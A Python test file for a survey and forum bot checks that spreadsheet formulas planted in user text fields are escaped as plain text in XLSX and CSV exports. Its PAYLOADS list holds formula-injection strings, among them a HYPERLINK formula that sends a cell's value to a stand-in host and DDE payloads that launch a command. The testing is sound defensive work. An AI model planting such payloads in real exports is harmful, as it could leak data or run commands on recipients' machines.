"""Issue 17 item 4: a formula planted in every free-text field that reaches an export (survey
suggestion and profile, a display name, forum texts, anonymous and named forum input) arrives in
every XLSX and CSV as text. Every cell of every produced file is scanned, not a hand-picked list."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime, timedelta
from decimal import Decimal
from types import SimpleNamespace
from zoneinfo import ZoneInfo

import pytest
from openpyxl import Workbook, load_workbook

from bot.domain.export_safety import FORMULA_STARTS, safe_cell, safe_row
from bot.domain.region import load_region_file
from bot.domain.skm.period import parse_period
from bot.services.forum_export import build_csv, build_workbook
from bot.services.regions import store_region
from bot.services.skm_export import build_skm_csv, build_skm_workbook
from storage import Repo
from storage.models import Forum, SurveyResponse

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"klik")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
WIB = ZoneInfo("Asia/Jakarta")


def test_helper_neutralises_text_and_keeps_numbers():
    for p in PAYLOADS:
        assert safe_cell(p) == "'" + p
    assert safe_row([-5, -1.5, Decimal("-2.25"), "biasa", None, "a=b"]) == [
        -5,
        -1.5,
        Decimal("-2.25"),
        "biasa",
        None,
        "a=b",
    ]
    # what openpyxl makes of it: a text cell, never a formula
    ws = Workbook().active
    ws.append(safe_row([*PAYLOADS, -7]))
    cells = list(ws[1])
    assert all(c.data_type == "s" for c in cells[:-1]) and cells[-1].data_type == "n" and cells[-1].value == -7


def assert_xlsx_safe(data: bytes, planted: int) -> None:
    wb = load_workbook(io.BytesIO(data))
    seen = 0
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for c in row:
                assert c.data_type != "f", (ws.title, c.coordinate, c.value)
                if isinstance(c.value, str):
                    assert not c.value.startswith(FORMULA_STARTS), (ws.title, c.coordinate, c.value)
                    seen += any(p.strip() in c.value for p in PAYLOADS)
    assert seen >= planted, f"only {seen} planted texts reached the workbook"


def assert_csv_safe(data: bytes, planted: int) -> None:
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    seen = 0
    for row in rows:
        for cell in row:
            assert not cell.startswith(FORMULA_STARTS), (row, cell)
            seen += any(p.strip() in cell for p in PAYLOADS)
    assert seen >= planted, f"only {seen} planted texts reached the CSV"


@pytest.fixture
async def planted(db, clock):
    """Every free-text field an export shows, holding a formula."""
    now = datetime(2026, 9, 1, 10, 0, tzinfo=UTC)
    await store_region(db, load_region_file(), now)
    async with db.unit_of_work() as uow:
        repo = Repo(uow.session)
        for i, p in enumerate(PAYLOADS):
            user = await repo.get_or_create_user("telegram", f"t{i}", now, display_name=p, username=p)
            row = SurveyResponse(
                user_id=user.id,
                unit_code="DLH-KEB",
                opd_code="DLH",
                service_code=None,
                channel="telegram",
                period_key="2026-S2",
                status="complete",
                started_at=now - timedelta(minutes=5),
                finished_at=now,
                profile={},
            )
            for k in range(1, 10):
                setattr(row, f"u{k}", 3)
            row.saran = p
            uow.session.add(row)
        forum = Forum(
            opd_code="DLH",
            title=PAYLOADS[0],
            topic=PAYLOADS[1],
            starts_at=now + timedelta(days=3),
            place=PAYLOADS[2],
            online_url=PAYLOADS[3],
            capacity=50,
            description=PAYLOADS[4],
            agenda=PAYLOADS[5],
            created_at=now,
            result_text=PAYLOADS[0],
        )
        uow.session.add(forum)
        await uow.session.flush()
        users = [await repo.get_or_create_user("telegram", f"t{i}", now) for i in range(len(PAYLOADS))]
        for i, (u, p) in enumerate(zip(users, PAYLOADS, strict=True)):
            await uow.forum.register(forum.id, u.id, now)
            uow.forum.add_input(
                forum_id=forum.id, user_id=u.id, anonymous=i % 2 == 0, channel="telegram", text=p, now=now
            )
        await uow.commit()
        return SimpleNamespace(forum_id=forum.id)


async def test_skm_exports_keep_formulas_as_text(db, planted):
    period = parse_period("2026-S2", datetime(2026, 9, 1).date())
    assert_xlsx_safe(await build_skm_workbook(db, period=period), planted=len(PAYLOADS))
    assert_csv_safe(await build_skm_csv(db, period=period), planted=0)
    assert_csv_safe(await build_skm_csv(db, period=period, delimiter=";"), planted=0)


async def test_forum_exports_keep_formulas_as_text(db, planted):
    async with db.unit_of_work() as uow:
        forum = await uow.forum.get(planted.forum_id)
        people = await uow.forum.attendees(forum.id, include_cancelled=True)
        inputs = await uow.forum.inputs(forum.id)
    # titles, topic, place, link, minutes, display names and every input
    assert_xlsx_safe(build_workbook(forum, PAYLOADS[2], people, inputs, WIB), planted=4 + len(PAYLOADS) * 2)
    assert_csv_safe(build_csv(inputs, WIB), planted=len(PAYLOADS))
